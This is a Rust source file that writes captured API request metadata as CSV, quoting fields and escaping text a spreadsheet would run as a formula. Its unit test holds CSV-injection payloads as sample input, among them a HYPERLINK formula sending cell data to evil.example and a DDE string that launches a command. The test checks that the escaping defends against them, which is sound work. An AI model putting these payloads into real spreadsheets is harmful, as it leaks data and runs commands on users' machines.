//! The CSV format: a header row and one row of metadata per record (RFC 4180 quoting: a field
//! with a comma, quote, CR or LF, or leading or trailing spaces, is quoted; quotes are doubled).
//! Text columns that a spreadsheet would run as a formula (a client's model name, request id or
//! feedback label starting with `=`, `+`, `-`, `@`, tab or CR) get a leading `'` (OWASP's advice
//! against CSV injection); number columns are written as they are.

use crate::capture::record::CaptureRecord;
use crate::store::Feedback;

pub const COLUMNS: &[&str] = &[
    "id",
    "attempt",
    "started_at",
    "route",
    "api",
    "model",
    "method",
    "path",
    "client_status",
    "upstream_status",
    "streamed",
    "tier",
    "outcome",
    "partial",
    "first_feedback_ms",
    "first_token_ms",
    "done_ms",
    "longest_silence_ms",
    "overhead_ms",
    "upstream_headers_ms",
    "input_tokens",
    "output_tokens",
    "reasoning_tokens",
    "error",
    "feedback_score",
    "feedback_label",
];

pub fn header(out: &mut Vec<u8>) {
    let fields: Vec<String> = COLUMNS.iter().map(|c| (*c).to_owned()).collect();
    push_row(out, &fields);
}

pub fn row(r: &CaptureRecord, feedback: Option<&Feedback>, out: &mut Vec<u8>) {
    let t = &r.timings;
    let usage = r.usage.unwrap_or_default();
    let fields = [
        text(&r.id),
        r.attempt.to_string(),
        rfc3339_millis(r.started_at_ms),
        text(&r.route),
        text(&r.api),
        text(r.model.as_deref().unwrap_or_default()),
        text(&r.method),
        text(&r.path),
        opt(r.client_status),
        opt(r.upstream_status),
        r.streamed.to_string(),
        text(&r.tier),
        r.outcome.as_str().to_owned(),
        r.partial.to_string(),
        ms(t.first_feedback_ms),
        ms(t.first_token_ms),
        ms(t.done_ms),
        ms(t.longest_silence_ms),
        ms(t.overhead_ms),
        ms(t.upstream_headers_ms),
        opt(usage.input),
        opt(usage.output),
        opt(usage.reasoning),
        text(r.error.as_deref().unwrap_or_default()),
        opt(feedback.and_then(|f| f.score)),
        text(
            feedback
                .and_then(|f| f.label.as_deref())
                .unwrap_or_default(),
        ),
    ];
    push_row(out, &fields);
}

fn push_row(out: &mut Vec<u8>, fields: &[String]) {
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        push_field(out, field);
    }
    out.extend_from_slice(b"\r\n");
}

fn push_field(out: &mut Vec<u8>, field: &str) {
    let quote =
        field.contains([',', '"', '\n', '\r']) || field.starts_with(' ') || field.ends_with(' ');
    if !quote {
        out.extend_from_slice(field.as_bytes());
        return;
    }
    out.push(b'"');
    out.extend_from_slice(field.replace('"', "\"\"").as_bytes());
    out.push(b'"');
}

use crate::capture::stats::csv_text as text;

fn opt<T: ToString>(value: Option<T>) -> String {
    value.map(|v| v.to_string()).unwrap_or_default()
}

/// Milliseconds, rounded to 0.001 ms; empty when missing or not finite.
fn ms(value: Option<f64>) -> String {
    match value {
        Some(v) if v.is_finite() => {
            let rounded = (v * 1000.0).round() / 1000.0;
            format!("{rounded}")
        }
        _ => String::new(),
    }
}

/// `2026-11-27T06:15:07.123Z` from Unix milliseconds (proleptic Gregorian, any sign).
pub fn rfc3339_millis(unix_ms: i64) -> String {
    let days = unix_ms.div_euclid(86_400_000);
    let ms_of_day = unix_ms.rem_euclid(86_400_000);
    let (y, m, d) = civil_from_days(days);
    let (h, min, s, ms) = (
        ms_of_day / 3_600_000,
        ms_of_day / 60_000 % 60,
        ms_of_day / 1000 % 60,
        ms_of_day % 1000,
    );
    format!("{y:04}-{m:02}-{d:02}T{h:02}:{min:02}:{s:02}.{ms:03}Z")
}

/// Howard Hinnant's `civil_from_days`: days since 1970-01-01 to (year, month, day).
fn civil_from_days(days: i64) -> (i64, i64, i64) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    (y, m, d)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dates() {
        assert_eq!(rfc3339_millis(0), "1970-01-01T00:00:00.000Z");
        assert_eq!(
            rfc3339_millis(1_795_760_107_123),
            "2026-11-27T06:15:07.123Z"
        );
        assert_eq!(rfc3339_millis(951_782_400_000), "2000-02-29T00:00:00.000Z");
        assert_eq!(rfc3339_millis(-1), "1969-12-31T23:59:59.999Z");
        // Extremes do not panic.
        let _ = rfc3339_millis(i64::MIN);
        let _ = rfc3339_millis(i64::MAX);
    }

    #[test]
    fn quoting() {
        let mut out = Vec::new();
        push_row(
            &mut out,
            &[
                "plain".into(),
                "a,b".into(),
                "say \"hi\"".into(),
                "l1\nl2".into(),
                " pad".into(),
                String::new(),
            ],
        );
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "plain,\"a,b\",\"say \"\"hi\"\"\",\"l1\nl2\",\" pad\",\r\n"
        );
    }

    /// Text a client chose (its model, request id, feedback label) that a spreadsheet would run
    /// as a formula is kept as text; numbers stay numbers.
    #[test]
    fn text_that_reads_as_a_formula_stays_text() {
        let mut r = crate::export::tests::base(
            "openai",
            "/v1/chat/completions",
            false,
            serde_json::json!({}),
            crate::capture::record::Reassembled::default(),
        );
        r.model = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into());
        r.id = "+cmd|' /C calc'!A0".into();
        r.error = Some("-2+3".into());
        let feedback = Feedback {
            score: Some(-1.0),
            label: Some("@SUM(A1)".into()),
            ..Feedback::default()
        };
        let mut out = Vec::new();
        row(&r, Some(&feedback), &mut out);
        let text = String::from_utf8(out).unwrap();
        for cell in text.trim_end().split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@']) && (!cell.starts_with('-') || cell == "-1"),
                "{cell:?} in {text}"
            );
        }
        assert!(text.contains("'=HYPERLINK"), "{text}");
        assert!(text.ends_with(",-1,'@SUM(A1)\r\n"), "{text}");
    }

    #[test]
    fn millis() {
        assert_eq!(ms(Some(12.0)), "12");
        assert_eq!(ms(Some(12.345_678)), "12.346");
        assert_eq!(ms(Some(f64::NAN)), "");
        assert_eq!(ms(None), "");
    }
}
